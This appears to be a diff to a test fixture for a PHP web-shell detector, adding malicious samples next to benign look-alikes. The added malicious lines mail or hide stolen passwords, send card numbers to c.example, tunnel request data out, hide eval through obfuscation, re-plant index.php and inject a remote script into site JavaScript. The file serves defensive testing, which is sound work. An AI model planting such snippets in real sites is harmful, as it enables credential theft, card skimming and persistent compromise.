@@ -69,6 +69,17 @@ SHELLS = {
     "move_uploaded_file($_FILES['x']['tmp_name'], $_FILES['x']['name']);",
     "search engines in front of a comment": "// file_get_contents('http://127.0.0.1/')\n"
     "if (strpos($_SERVER['HTTP_USER_AGENT'], 'googlebot')) { echo file_get_contents('http://192.0.2.7/l'); }",
+    "password mailed": "$p = $_POST['passwd'] ?? ''; mail('drop@m.example', 'x', $_POST['user'] . ':' . $p);",
+    "password kept aside": "$c = fopen('/dev/shm/.l', 'a'); fwrite($c, $_POST['user'] . ':' . $_POST['password']);",
+    "card sent with an address": "file_get_contents('https://c.example/?d=' . base64_encode($_POST['card_no']));",
+    "put back for ever": "while (true) { copy('/tmp/.idx', '/srv/www/index.php'); sleep(2); }",
+    "tunnel": "$s = fsockopen($_SERVER['HTTP_X_T'], 80); fwrite($s, file_get_contents('php://input'));",
+    "class by its name": f"spl_autoload_register(function ($c) {{ {EVALUATE}(base64_decode($c)); }}); class_exists($_POST['c']);",
+    "template of a visitor": "$t = function ($s) { $f = sys_get_temp_dir() . '/' . crc32($s) . '.php'; "
+    "file_put_contents($f, $s); include $f; }; $t($_REQUEST['v']);",
+    "hidden name's own answer": "$d = ''; foreach (['b', 'x'] as $l) { $d .= $l; } $e = $d('ZXhlYw=='); $e($_POST['q']);",
+    "script made by a script": "foreach (glob('*.js') as $f) { $c = file_get_contents($f); file_put_contents($f, "
+    '\'var s=document.createElement("script");s.src="https://s.example/x.js";\' . $c); }',
     "shell in words": f"{OPEN}(['sh', '-c', $_POST['c']], [], $p);",
 }
 HONEST = {
@@ -94,6 +105,11 @@ HONEST = {
     "application's rewrites": "file_put_contents('.htaccess', 'RewriteRule ^index\\.php$ - [L]');",
     "sum": "$a = $_GET['a'] + $_GET['b']; echo number_format($a);",
     "weather for everybody": "echo file_get_contents('https://weather.example/today');",
+    "password of a new account": "mail($_POST['email'], 'Welcome', 'Your password: ' . $_POST['password']);",
+    "password that is hashed": "$h = password_hash($_POST['password'], PASSWORD_DEFAULT); file_put_contents('users.txt', $h);",
+    "loop with an end": "for ($i = 0; $i < 3; $i++) { copy('/srv/t/index.php', '/srv/www/' . $i . '/index.php'); }",
+    "port of a server": "$s = fsockopen($_POST['smtp_host'], 25, $e, $m, 5);",
+    "program put together in the open": f"{EVALUATE}('$a = array(' . '1, 2, 3, 4, 5, 6, 7' . ');');",
     "theme of a site": "$t = $_GET['t'] ?? 'home'; if (!preg_match('/^[a-z]+$/', $t)) { exit; } include __DIR__ . '/' . $t;",
 }
 
